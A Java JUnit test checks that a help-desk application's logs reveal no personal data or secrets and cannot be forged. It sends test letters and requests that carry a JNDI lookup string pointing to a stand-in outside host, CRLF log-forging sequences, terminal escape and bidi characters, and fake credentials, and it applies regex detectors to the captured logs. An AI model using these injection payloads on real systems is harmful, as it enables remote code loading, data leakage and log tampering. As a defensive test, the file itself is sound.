package kz.kezek;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.MessagingException;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import kz.kezek.identity.Role;
import kz.kezek.intake.smtp.SmtpDoor;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** The log of a day of letters, acts and faults tells nobody's number, address, name, password, key or token, and cannot be forged. */
@ExtendWith(OutputCaptureExtension.class)
class LogsTellNothingTest {

    private static final String OFFICE = "office@sud.kz";
    private static final String ADDRESS = "aigul.taina@example.kz";
    private static final String NAME = "Тестова Айгуль";
    private static final String IIN = "900101100014";
    private static final String PHONE = "701 123 45 67";
    private static final String PASSWORD = "Taina-2026-slovo";
    private static final String KEY_LINE = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgevZzL1gdAFr88hb2";
    private static final String WRONG_TOKEN = "kzk_0123456789abcdefghijABCDEFGHIJ0123456789abc";
    private static final String LINK = "Zm9yZ2VkLWxpbmstb2YtYS10aWNrZXQtMTIzNDU2Nzg";
    private static final String FORGED = "forged-line";
    private static final String BREAK = "\r\n" + FORGED + "\u001b[2J\u202E";

    /** What may stand in no line, and what it would be. */
    private static final Map<String, Pattern> SECRETS = Map.ofEntries(
            Map.entry("a person's number", Pattern.compile("(?<![\\w-])[0-9]{12}(?![\\w-])")),
            Map.entry("an address", Pattern.compile("[\\w.+-]+@[\\w-]+\\.\\w+")),
            Map.entry("a name", Pattern.compile("Тестова|Айгуль")),
            Map.entry("a telephone", Pattern.compile("701.?123.?45.?67")),
            Map.entry("a password", Pattern.compile(Pattern.quote(PASSWORD) + "|" + DeskVisitor.PASSWORD)),
            Map.entry("a key", Pattern.compile("PRIVATE KEY|" + KEY_LINE)),
            Map.entry("a token", Pattern.compile("kzk_\\w+|" + LINK + "|/s/[\\w-]{43}|(?i)csrf=\\S+|session=\\S+")),
            Map.entry("a line that was not logged", Pattern.compile("(?m)^" + FORGED)),
            Map.entry(
                    "a command to a terminal",
                    Pattern.compile("[\\p{Cntrl}&&[^\\n\\t]]|[\u202A-\u202E\u2066-\u2069]")));

    @Test
    void sayNothingAboutAnybody(CapturedOutput log) throws Exception {
        try (RunningDesk desk = RunningDesk.at("2026-11-23T05:15:00Z")) {
            letters(desk);
            var agent = DeskVisitor.signedIn(desk, "aigerim", "Айгерим С.", Role.AGENT);
            acts(agent);
            strangers(desk);
            faults(desk, agent);
        }

        assertThat(log.getAll()).contains("door smtp");
        assertThat(told(log.getAll())).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "letter of " + IIN + " came",
                "to <" + ADDRESS + "> not delivered",
                "from " + NAME,
                "caller +7 " + PHONE,
                "tried " + PASSWORD,
                "key " + KEY_LINE,
                "token " + WRONG_TOKEN + " refused",
                "GET /s/" + LINK,
                "subject x" + BREAK,
                "subject \u001b[2J",
            })
    void wouldBeFoundOut(String line, CapturedOutput log) {
        LoggerFactory.getLogger("kz.kezek.planted").warn(line);

        assertThat(told(log.getAll())).isNotEmpty();
    }

    private static List<String> told(String log) {
        List<String> told = new ArrayList<>();
        SECRETS.forEach((secret, pattern) -> log.lines()
                .filter(line -> pattern.matcher(line).find())
                .forEach(line -> told.add(secret + ": " + line)));
        return told;
    }

    private static void letters(RunningDesk desk) throws Exception {
        post(desk, IIN + "/СК/ Не подписывается", "Меня зовут " + NAME + ", ИИН " + IIN + ", тел. +7 " + PHONE);
        post(desk, "Пароль", "Логин " + IIN + ", пароль: " + PASSWORD);
        post(
                desk,
                "Ключ",
                "-----BEGIN PRIVATE KEY-----\r\n" + KEY_LINE + "\r\n-----END PRIVATE KEY-----\r\nпароль: " + PASSWORD);
        post(desk, "Тема" + BREAK + " " + IIN, "${jndi:ldap://outside.example/" + IIN + "}" + BREAK);
        for (HostileCorpus.Letter hostile : HostileCorpus.letters()) {
            if (hostile.tries().matches("(?s)(subject|author|file name|svg|xml|tnef|two authors|nobody).*")) {
                offer(desk, hostile.bytes());
            }
        }
        desk.tickets(4);
        RunningDesk.await(
                "every letter read",
                () -> desk.get("/api/v1/ledger?limit=1000").get("entries").values().stream()
                        .filter(entry -> entry.path("fate").isMissingNode()
                                || entry.path("fate").isNull())
                        .toList(),
                List::isEmpty);
    }

    private static void post(RunningDesk desk, String subject, String text) throws Exception {
        String letter =
                "From: " + word(NAME + BREAK) + " <" + ADDRESS + ">\r\nTo: " + OFFICE + "\r\nSubject: " + word(subject)
                        + "\r\nMessage-ID: <" + subject.hashCode() + "." + ADDRESS
                        + ">\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                        + text + "\r\n";
        offer(desk, letter.getBytes(StandardCharsets.UTF_8));
    }

    /** Some are refused at the door: that too must be said without their words. */
    private static void offer(RunningDesk desk, byte[] letter) {
        try {
            desk.post(letter, ADDRESS, OFFICE);
        } catch (MessagingException refused) {
            assertThat(refused).hasMessageMatching("(?s).*[45][0-9][0-9].*");
        }
    }

    private static String word(String text) {
        return "=?utf-8?B?" + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)) + "?=";
    }

    private static void acts(DeskVisitor agent) {
        agent.get("/desk/t/SK-26-000001");
        agent.send("/desk/queue", "/desk/t/SK-26-000001/identifier-views", Map.of());
        agent.send("/desk/queue", "/desk/search", Map.of("q", List.of(IIN)));
        agent.get("/desk/search?q=" + IIN);
        agent.send(
                "/desk/call",
                "/desk/call",
                Map.of(
                        "id",
                        List.of(IIN),
                        "phone",
                        List.of("8" + PHONE),
                        "name",
                        List.of(NAME + BREAK),
                        "summary",
                        List.of("x" + BREAK)));
        agent.send("/desk/queue", "/desk/t/SK-26-000001/participants", Map.of("address", List.of(ADDRESS + BREAK)));
        var form = agent.filled(
                agent.page("/desk/t/SK-26-000001?compose=answer"),
                "#composer form",
                Map.of("text", List.of(NAME + BREAK)));
        agent.post("/desk/t/SK-26-000001/answers", form);
    }

    private static void strangers(RunningDesk desk) throws IOException {
        var stranger = DeskVisitor.of(desk);
        stranger.send("/login", "/login", Map.of("username", List.of(ADDRESS + BREAK), "password", List.of(PASSWORD)));
        stranger.send("/login", "/login", Map.of("username", List.of("aigerim"), "password", List.of(PASSWORD)));
        stranger.ask("GET", "/api/v1/tickets", Map.of(), "Authorization", "Bearer " + WRONG_TOKEN);
        stranger.ask("GET", "/api/v1/tickets?access_token=" + WRONG_TOKEN, Map.of());
        stranger.get("/s/" + LINK);
        stranger.get("/request/confirm/" + LINK);
        stranger.get("/desk/t/" + IIN + "%0d%0a" + FORGED);
        stranger.send("/login", "/status", Map.of("address", List.of(ADDRESS)));
        raw(Integer.parseInt(desk.url().replaceFirst(".*:", "")), "GET /" + IIN + "|\u001b[2J HTTP/1.1\r\n\r\n");
        raw(
                desk.bean(SmtpDoor.class).port(),
                "EHLO \u001b[2J" + ADDRESS + "\r\nMAIL FROM:<" + ADDRESS + "\u001b>\r\n" + "RCPT TO:<" + ADDRESS
                        + ">\r\nVRFY " + NAME + "\r\nQUIT\r\n");
    }

    private static void raw(int port, String words) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(words.getBytes(StandardCharsets.UTF_8));
            socket.shutdownOutput();
            socket.getInputStream().readAllBytes();
        }
    }

    /** What breaks is told with a stack trace, whose messages are others' words. */
    private static void faults(RunningDesk desk, DeskVisitor agent) throws Exception {
        desk.relayGoesDown();
        post(desk, "Пятое " + IIN, "Не открывается");
        desk.tickets(5);
        desk.clock.advance(Duration.ofSeconds(1));
        RunningDesk.await(
                "a letter that could not leave",
                () -> desk.get("/api/v1/outbox").get("letters").values().stream()
                        .filter(letter -> letter.at("/letter/attempts").asInt() > 0)
                        .count(),
                tried -> tried > 0);
        desk.database.goAway();
        offer(
                desk,
                ("From: " + ADDRESS + "\r\nSubject: " + IIN + "\r\n\r\n" + PASSWORD).getBytes(StandardCharsets.UTF_8));
        int broken = agent.get("/desk/queue").statusCode();
        desk.database.comeBack();
        assertThat(broken).isGreaterThanOrEqualTo(500);
        desk.relayComesBack();
    }
}
